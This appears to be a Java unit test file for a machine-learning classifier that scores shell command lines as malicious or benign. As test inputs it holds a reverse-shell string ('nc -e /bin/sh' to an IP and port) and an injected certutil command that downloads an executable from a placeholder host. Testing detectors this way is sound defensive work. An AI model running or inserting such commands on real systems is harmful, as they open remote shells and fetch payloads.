package dev.longtail.training.classify;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;

import dev.longtail.training.data.LabelledCommand;
import dev.longtail.training.metrics.Auc;
import dev.longtail.udfs.io.InputException;
import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.OptionalDouble;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ModelTest {
  private static final ModelSettings SETTINGS = new ModelSettings(20, 1);
  private static final HashedVectors VECTORS = new HashedVectors();
  private static final LineSources WITH_VECTORS = LineSources.TEXT.with(VECTORS);

  private static Model onText;
  private static Model onEmbeddings;

  @TempDir private Path folder;

  @BeforeAll
  static void train() {
    onText = Model.train(Lines.set(400, 1), SETTINGS, LineSources.TEXT);
    onEmbeddings = Model.train(Lines.set(400, 1), SETTINGS, WITH_VECTORS);
  }

  private static Model model(boolean embeddings) {
    return embeddings ? onEmbeddings : onText;
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void tellsAttacksFromTheRest(boolean embeddings) {
    List<LabelledCommand> lines = Lines.draw(300, 2);
    CommandClassifier classifier = model(embeddings).classifier();
    double[] scores = new double[lines.size()];
    boolean[] malicious = new boolean[lines.size()];
    for (int i = 0; i < scores.length; i++) {
      scores[i] = classifier.score(lines.get(i).cmd());
      malicious[i] = lines.get(i).isMalicious();
      assertThat(scores[i]).isBetween(0.0, 1.0);
    }
    assertThat(Auc.of(scores, malicious).value()).isGreaterThan(0.99);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void theHalvesAddUpToTheScoreAndTheFirstNeedsNoEmbedding(boolean embeddings) {
    ModelClassifier classifier = model(embeddings).classifier();
    for (LabelledCommand line : Lines.draw(50, 3)) {
      HalfScores halves = classifier.halves(line.cmd());
      assertThat(1 / (1 + Math.exp(-halves.logOdds())))
          .isCloseTo(classifier.score(line.cmd()), within(1e-9));
      assertThat(classifier.textLogOdds(line.cmd())).isEqualTo(halves.text());
      assertThat(halves.embedding() != 0).isEqualTo(embeddings);
    }
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void scoresAnyLine(boolean embeddings) {
    CommandClassifier classifier = model(embeddings).classifier();
    for (String line : List.of("", " ", "\ud83d", "😀", "x".repeat(1 << 17))) {
      assertThat(classifier.score(line)).isBetween(0.0, 1.0);
    }
  }

  /**
   * The cascade is a saving, not another score: the same lines, the same scores, the same order.
   */
  @Property
  void cascadeFindsWhatScoresReachTheThreshold(Any any) {
    ModelClassifier classifier = model(any.between(0, 1) == 1).classifier();
    String line =
        any.between(0, 1) == 1
            ? any.text()
            : Lines.draw(1, any.between(0, 1000)).get(0).cmd()
                + any.of("", "; whoami", " && certutil -urlcache -f http://a/b.exe b.exe");
    double score = classifier.score(line);
    double threshold = any.of(any.fraction(), score, Math.nextUp(score), Math.nextDown(score));
    OptionalDouble found = classifier.scoreFrom(threshold, line);
    assertThat(found)
        .isEqualTo(score >= threshold ? OptionalDouble.of(score) : OptionalDouble.empty());
    assertThat(classifier.mayReach(threshold, line) || score < threshold).isTrue();
  }

  @Test
  void embedsOnlyWhatMayBeAnAlert() {
    ModelClassifier classifier = onEmbeddings.classifier();
    double threshold = classifier.score("nc -e /bin/sh 10.0.0.9 4444 zzz");
    int before = VECTORS.asked();
    assertThat(classifier.scoreFrom(threshold, "git status zzz")).isEmpty();
    assertThat(VECTORS.asked()).isEqualTo(before);
    assertThat(classifier.scoreFrom(threshold, "nc -e /bin/sh 10.0.0.9 4444 zzz")).isPresent();
    assertThat(VECTORS.asked()).isEqualTo(before + 1);
  }

  @ParameterizedTest
  @ValueSource(booleans = {false, true})
  void comesBackFromDiskTheSame(boolean embeddings) throws IOException {
    Model model = model(embeddings);
    model.save(folder);
    for (Path input : List.of(folder, folder.resolve("model.json"), folder.resolve("ngrams.bin"))) {
      Model loaded = Model.load(input);
      assertThat(loaded.needsVectors()).isEqualTo(embeddings);
      assertThat(loaded.facts()).isEqualTo(model.facts());
      ModelClassifier classifier = (embeddings ? loaded.with(VECTORS) : loaded).classifier();
      for (LabelledCommand line : Lines.draw(50, 3)) {
        assertThat(classifier.score(line.cmd())).isEqualTo(model.classifier().score(line.cmd()));
      }
    }
  }

  @Test
  void modelsTrainedSideBySideAreTheSame() throws Exception {
    ExecutorService threads = Executors.newFixedThreadPool(2);
    try {
      Callable<Model> training =
          () -> Model.train(Lines.set(400, 1), SETTINGS, WITH_VECTORS.rememberingMarks());
      int number = 0;
      for (Future<Model> trained : threads.invokeAll(List.of(training, training))) {
        trained.get().save(folder.resolve("" + number++));
      }
      onEmbeddings.save(folder.resolve("alone"));
    } finally {
      threads.shutdownNow();
    }
    for (PartKind kind : PartKind.values()) {
      byte[] alone = Files.readAllBytes(folder.resolve("alone").resolve(kind.file()));
      assertThat(folder.resolve("0").resolve(kind.file())).hasBinaryContent(alone);
      assertThat(folder.resolve("1").resolve(kind.file())).hasBinaryContent(alone);
    }
    assertThat(folder.resolve("0/model.json"))
        .hasSameTextualContentAs(folder.resolve("alone/model.json"));
  }

  @Test
  void saysHowItCameToBe() throws IOException {
    onEmbeddings.save(folder);
    assertThat(Files.readString(folder.resolve("model.json")))
        .contains("\"format\" : 2")
        .contains("\"training_set\" : \"ab\"")
        .contains("\"rows\" : 400")
        .contains("\"embedding\" : \"runs-of-three\"")
        .contains("\"marks\" : \"" + MarkColumns.version())
        .contains("\"NGRAMS\", \"EMBEDDING_TREES\", \"NEIGHBOURS\", \"RIDGE\"")
        .contains("\"trees\" : 20")
        .contains("\"seed\" : 1");
    Model other = Model.train(Lines.set(400, 9), new ModelSettings(1, 1), LineSources.TEXT);
    assertThat(other.facts().rowsDigest()).isNotEqualTo(onText.facts().rowsDigest());
    assertThat(other.facts().parts()).containsExactly("NGRAMS");
  }

  @Test
  void itsProbabilitiesAreThoseOfLinesItHasNotSeen() {
    assertThat(onText.facts().reliability()).isNotEmpty();
    assertThat(onText.facts().reliability().stream().mapToInt(Reliability::lines).sum())
        .isEqualTo(400);
    assertThat(onText.facts().calibration().slope()).isPositive();
  }

  @Test
  void refusesVectorsOfAnotherModel() {
    LineVectors others =
        new LineVectors() {
          @Override
          public String model() {
            return "another";
          }

          @Override
          public int dimensions() {
            return HashedVectors.DIMENSIONS;
          }

          @Override
          public float[] of(String commandLine) {
            return VECTORS.of(commandLine);
          }
        };
    assertThatThrownBy(() -> onEmbeddings.with(others))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("embeddings of runs-of-three with 24 components, not of another");
  }

  @Test
  void scoresNothingWithoutTheVectorsItNeeds() throws IOException {
    onEmbeddings.save(folder);
    Model loaded = Model.load(folder);
    assertThatThrownBy(loaded::classifier).isInstanceOf(IllegalStateException.class);
  }

  @Test
  void refusesAFolderThatIsNoModel() {
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessage(folder + ": no model; it lacks model.json");
    assertThatThrownBy(() -> Model.load(folder.resolve("nowhere")))
        .isInstanceOf(InputException.class);
  }

  @Test
  void refusesAModelThatLacksAPart() throws IOException {
    onText.save(folder);
    Files.delete(folder.resolve("ngrams.bin"));
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessage(folder + ": no model; it lacks ngrams.bin");
  }

  @Test
  void refusesAModelOfTheFormatBefore() throws IOException {
    Files.writeString(folder.resolve("model.json"), "{\"format\": 1, \"training_set\": \"ab\"}");
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessage(
            folder.resolve("model.json")
                + ": a model of format 1; this program reads format 2. Train the model again");
  }

  @Test
  void refusesAModelOfOtherFeaturesOrMarks() throws IOException {
    onText.save(folder);
    Path facts = folder.resolve("model.json");
    String good = Files.readString(facts);
    Files.writeString(facts, good.replace("+words-2", "+words-3"));
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("+words-3")
        .hasMessageContaining("this program knows expert-");
    Files.writeString(facts, good.replace(MarkColumns.version(), "others"));
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("a model on attack marks others");
    Files.writeString(facts, good.replace("\"NGRAMS\"", "\"WOODS\""));
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("WOODS");
    Files.writeString(facts, good.replace("\"NGRAMS\"", "\"RIDGE\""));
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("does not say which embedding model");
  }

  @Test
  void refusesDamagedFacts() throws IOException {
    onText.save(folder);
    for (String damaged : List.of("{}", "{", "{\"format\": 2}")) {
      Files.writeString(folder.resolve("model.json"), damaged);
      assertThatThrownBy(() -> Model.load(folder)).isInstanceOf(InputException.class);
    }
  }

  @Test
  void refusesDamagedNeighbours() throws IOException {
    onEmbeddings.save(folder);
    Path file = folder.resolve("neighbours.bin");
    byte[] good = Files.readAllBytes(file);
    Files.write(file, java.util.Arrays.copyOf(good, good.length - 1));
    assertThatThrownBy(() -> Model.load(folder)).isInstanceOf(InputException.class);
    Files.write(file, java.util.Arrays.copyOf(good, good.length + 1));
    assertThatThrownBy(() -> Model.load(folder))
        .isInstanceOf(InputException.class)
        .hasMessageContaining("left behind the last vector");
  }
}
